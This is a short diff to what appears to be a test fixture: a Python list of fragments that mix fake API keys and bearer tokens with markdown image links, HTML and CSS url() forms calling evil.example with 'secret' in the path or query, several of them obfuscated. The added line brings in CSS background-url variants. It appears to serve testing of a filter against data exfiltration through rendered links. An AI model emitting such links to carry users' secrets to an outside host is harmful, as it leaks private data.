@@ -36,6 +36,7 @@ FRAGMENTS = [
     "sk-abcdefghijk1234567890 ", "Bearer abcdef0123456789 ", KEY,
     "![x](https://evil.example/?d=secret) ", "[a](\n&#104;ttps://evil.example/x) ", "[r]: //evil.example/secret ",
     "![x](\u00a0\ufeff  \t<//evil.example/secret> ) ", "<https:evil.example/secret> ",
+    '<p style="background: url( //evil.example/secret ) "> ', "URL( ' //evil.example/secret') ",
     '<img alt=">" src="https://evil.example/secret"> ', "https://evil.example/机密 ", "www.evil.example ",
 ]  # fmt: skip
 
